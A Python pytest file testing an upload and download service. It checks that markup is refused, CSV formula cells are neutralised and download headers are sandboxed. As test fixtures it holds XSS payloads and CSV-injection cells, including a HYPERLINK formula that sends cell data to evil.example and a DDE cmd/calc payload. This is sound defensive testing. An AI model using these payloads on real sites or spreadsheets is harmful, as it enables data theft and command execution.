"""Uploads and downloads: markup anywhere in a text file is refused; a CSV's formula cells
are neutralised in the copy sent, never in the stored file; and every file the service
hands out goes through one helper, with the same headers.

The markup check used to read only the first 64 characters, so a leading comment hid a
page; CSV files with formula cells were sent as uploaded; downloads were written three
times, with three different Cache-Control values, and none was sandboxed.
"""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import re
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlencode

import pytest
from sqlalchemy import select
from werkzeug.http import parse_options_header

from app.downloads import DOWNLOAD_CACHE_CONTROL, DOWNLOAD_CSP
from app.extensions import db
from app.models.enrolments import Enrolment
from app.models.evidence import Attachment
from app.services.pathway import programme_status
from app.services.portfolio.attachments import CHUNK, sniff_media_type
from app.services.portfolio.csv_attachments import spreadsheet_safe
from app.services.storage.documents import Upload
from tests.conftest import DEFAULT_PASSWORD, ROOT
from tests.security.world import World, fingerprint, signed_in_client

REFUSED_TYPE = "This type of file cannot be attached"

# A trainee's audit figures, with every way a cell can start a formula.
FORMULA_CSV = (
    b"Medicine,Patients,Note\r\n"
    b'Salbutamol,12,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n'
    b"Beclometasone,+7,@SUM(B2:B3)\r\n"
    b"Spacers,-3,\tcmd|' /C calc'!A0\r\n"
    b"Inhaler checks,30,Technique improved in 24 of 30\r\n"
)


# --- The markup check reads the whole file ------------------------------------------------


def _text_at(tmp_path: Path, content: bytes) -> str | None:
    path = tmp_path / "upload"
    path.write_bytes(content)
    return sniff_media_type(path)


@pytest.mark.parametrize(
    "content",
    [
        b"<!-- meeting notes -->\n<html><body><script>alert(1)</script></body></html>",
        b"\n" * 200 + b"<script>alert(document.cookie)</script>",
        b"Notes from the audit.\n" * 5000 + b"<svg onload=alert(1)>",
        # A tag split across the boundary between two chunks the check reads.
        b"a" * (CHUNK - 3) + b"<iframe src=//evil.example>",
        b"x" * 100 + b"<IMG SRC=x onerror=alert(1)>",
    ],
    ids=["after-a-comment", "after-blank-lines", "far-in", "across-chunks", "upper-case"],
)
def test_markup_anywhere_in_a_text_file_means_it_is_not_plain_text(tmp_path, content):
    assert _text_at(tmp_path, content) is None


@pytest.mark.parametrize(
    "content",
    [
        b"Dose < 5 mg and > 2 mg; a <b> in notes is not a page\n",
        b"Peak flow <300 L/min on 3 of 7 days\n" * 3000,
        "Café audit: 24/30 improved ✓\n".encode(),
    ],
)
def test_text_with_angle_brackets_that_are_not_markup_is_plain_text(tmp_path, content):
    assert _text_at(tmp_path, content) == "text/plain"


def test_a_text_file_hiding_a_page_behind_a_comment_is_refused_through_the_page(app, world, login):
    client = signed_in_client(app, login, world.users["owner"])
    before = fingerprint(app)
    page = b"<!-- just notes -->\n<!DOCTYPE html><html><script>alert(1)</script></html>"
    response = client.post(
        f"/portfolio/evidence/{world.draft_args['evidence_id']}/attachments",
        data={"attachment": (io.BytesIO(page), "notes.txt")},
    )
    assert response.status_code == 200
    assert REFUSED_TYPE in response.get_data(as_text=True)
    assert fingerprint(app) == before


# --- CSV files: formulas neutralised in the copy sent ---------------------------------------


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _attach_csv(app, world, login) -> tuple[Attachment, object]:
    client = signed_in_client(app, login, world.users["owner"])
    response = client.post(
        f"/portfolio/evidence/{world.draft_args['evidence_id']}/attachments",
        data={"attachment": (io.BytesIO(FORMULA_CSV), "inhaler audit.csv")},
    )
    assert response.status_code == 302
    attachment = db.session.scalars(
        select(Attachment).where(Attachment.original_filename == "inhaler audit.csv")
    ).one()
    return attachment, client


def test_a_csv_attachment_is_stored_as_uploaded_and_sent_with_formulas_neutralised(
    app, world, login
):
    attachment, client = _attach_csv(app, world, login)
    stored = Path(app.config["UPLOAD_DIR"]) / attachment.storage_key[:2] / attachment.storage_key
    # The digest in the evidence version (and any sign-off) names the uploaded bytes.
    assert stored.read_bytes() == FORMULA_CSV
    assert attachment.sha256 == hashlib.sha256(FORMULA_CSV).hexdigest()

    download = client.get(
        f"/portfolio/evidence/{world.draft_args['evidence_id']}/attachments/{attachment.id}"
    )

    assert download.status_code == 200
    assert download.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert _filename(download) == "inhaler audit.csv"
    assert _rows(download.data) == [
        ["Medicine", "Patients", "Note"],
        ["Salbutamol", "12", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
        ["Beclometasone", "'+7", "'@SUM(B2:B3)"],
        ["Spacers", "'-3", "'\tcmd|' /C calc'!A0"],
        ["Inhaler checks", "30", "Technique improved in 24 of 30"],
    ]
    # Every cell quoted: a spreadsheet splitting on another delimiter finds no new cell.
    assert all(line.startswith('"') for line in download.data.decode().splitlines())


def test_a_supervisor_gets_the_same_neutralised_copy(app, world, login):
    attachment, owner = _attach_csv(app, world, login)
    submitted = owner.post(f"/portfolio/evidence/{world.draft_args['evidence_id']}/submit")
    assert submitted.status_code == 302
    supervisor = signed_in_client(app, login, world.users["assigned_supervisor"])
    download = supervisor.get(
        f"/supervision/evidence/{world.draft_args['evidence_id']}/attachments/{attachment.id}"
    )
    assert download.status_code == 200
    assert "'=HYPERLINK" in download.get_data(as_text=True)
    assert '\n"=' not in download.get_data(as_text=True)


def test_a_csv_exemption_letter_is_neutralised_too(app, world, login):
    _upload_exemption(app, world, b"Exempt,=1+1\r\n", "letter.csv")
    client = signed_in_client(app, login, world.users["lead_inside"])
    download = client.get(
        f"/registration/enrolments/{world.args['enrolment_id']}/exemption-document"
    )
    assert download.status_code == 200
    assert download.data == b'"Exempt","\'=1+1"\r\n'


def test_a_csv_that_cannot_be_read_as_a_table_is_sent_as_text_under_a_txt_name():
    giant_field = b'"' + b"x" * 200_000 + b'"\n=1+1\n'
    assert spreadsheet_safe(giant_field, "big.csv") == (giant_field, "big.csv.txt")


# --- Every download, the same headers ------------------------------------------------------


def _filename(response) -> str:
    disposition, options = parse_options_header(response.headers["Content-Disposition"])
    assert disposition == "attachment"
    return options["filename"]


def _upload_exemption(app, world: World, content: bytes, name: str) -> None:
    enrolment = db.session.get(Enrolment, world.args["enrolment_id"])
    programme_status.update_programme_status(
        enrolment,
        programme_status.ProgrammeStatusChange("exempt", Decimal("1.0"), Decimal(0), "arrs", "5"),
        actor=world.users["lead_inside"],
        exemption_document=Upload(io.BytesIO(content), name),
        upload_dir=app.config["UPLOAD_DIR"],
        max_bytes=app.config["MAX_UPLOAD_BYTES"],
    )
    db.session.commit()


DOWNLOADS = {
    "trainee's attachment": (
        "owner",
        "/portfolio/evidence/{evidence_id}/attachments/{attachment_id}",
    ),
    "supervisor's attachment": (
        "assigned_supervisor",
        "/supervision/evidence/{evidence_id}/attachments/{attachment_id}",
    ),
    "own certificate": ("owner", "/registration/qualification/certificate"),
    "overseen certificate": (
        "lead_inside",
        "/registration/people/{user_id}/qualification/certificate",
    ),
    "exemption letter": (
        "lead_inside",
        "/registration/enrolments/{enrolment_id}/exemption-document",
    ),
    "own record ZIP": ("owner", "/portfolio/record.zip"),
    "progress CSV": ("lead_inside", "/lead/exports/progress.csv"),
    "competencies CSV": ("lead_inside", "/lead/exports/competencies.csv"),
    "progress XLSX": ("lead_inside", "/lead/exports/progress.xlsx"),
    "cohort summary PDF": ("lead_inside", "/lead/exports/cohort-summary.pdf"),
    "trainee portfolio PDF": ("lead_inside", "/lead/trainees/{enrolment_id}/portfolio.pdf"),
    "API progress CSV": ("lead_inside", "/api/v1/reports/progress?format=csv"),
    "API progress XLSX": ("lead_inside", "/api/v1/reports/progress?format=xlsx"),
}


@pytest.mark.parametrize("name", list(DOWNLOADS))
def test_every_download_is_an_attachment_never_sniffed_sandboxed_and_never_cached(
    app, world, login, name
):
    _upload_exemption(app, world, b"%PDF-1.4\n%%EOF\n", "exemption.pdf")
    actor, path = DOWNLOADS[name]
    client = signed_in_client(app, login, world.users[actor])

    response = client.get(path.format(**world.args))

    assert response.status_code == 200, name
    assert _filename(response)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == DOWNLOAD_CSP
    assert "sandbox" in DOWNLOAD_CSP.split("; ")
    assert response.headers["Cache-Control"] == DOWNLOAD_CACHE_CONTROL == "private, no-store"
    assert response.headers["Content-Type"].count("charset") <= 1


@pytest.mark.parametrize(
    "path", ["/lead/exports/progress.csv", "/api/v1/reports/progress?format=csv"]
)
def test_csv_exports_name_their_charset_once(app, world, login, path):
    client = signed_in_client(app, login, world.users["lead_inside"])
    assert client.get(path).headers["Content-Type"] == "text/csv; charset=utf-8"


def test_only_the_download_helper_writes_a_download():
    """One helper, one set of headers: no view sends a file or a disposition of its own."""
    writers = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "app").rglob("*.py")
        if path.name != "downloads.py"
        and re.search(r"send_file\(|[\"']Content-Disposition[\"']", path.read_text())
    ]
    assert writers == []


# --- The same headers from a real server ------------------------------------------------------


def _get(served: str, path: str, headers: dict[str, str]) -> tuple[int, dict, bytes]:
    connection = http.client.HTTPConnection(served, timeout=30)
    try:
        connection.request("GET", path, headers=headers)
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        connection.close()


def _signed_in_cookie(served: str, email: str) -> str:
    connection = http.client.HTTPConnection(served, timeout=30)
    try:
        body = urlencode({"email": email, "password": DEFAULT_PASSWORD})
        connection.request(
            "POST",
            "/auth/login",
            body=body,
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        response = connection.getresponse()
        response.read()
        assert response.status == 302
        return response.getheader("Set-Cookie").split(";", 1)[0]
    finally:
        connection.close()


def test_a_real_server_sends_a_csv_attachment_and_an_export_with_the_same_headers(
    app, world, login, served
):
    attachment, _ = _attach_csv(app, world, login)
    evidence_id = world.draft_args["evidence_id"]
    cookie = _signed_in_cookie(served, world.users["owner"].email)

    status, headers, body = _get(
        served, f"/portfolio/evidence/{evidence_id}/attachments/{attachment.id}", {"Cookie": cookie}
    )

    assert status == 200
    assert headers["Content-Security-Policy"] == DOWNLOAD_CSP
    assert headers["Cache-Control"] == "private, no-store"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Disposition"] == 'attachment; filename="inhaler audit.csv"'
    assert b"'=HYPERLINK" in body

    lead_cookie = _signed_in_cookie(served, world.users["lead_inside"].email)
    status, headers, body = _get(served, "/lead/exports/progress.csv", {"Cookie": lead_cookie})
    assert status == 200
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Security-Policy"] == DOWNLOAD_CSP
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert "Ada Ownerby" in {row["Trainee"] for row in rows}
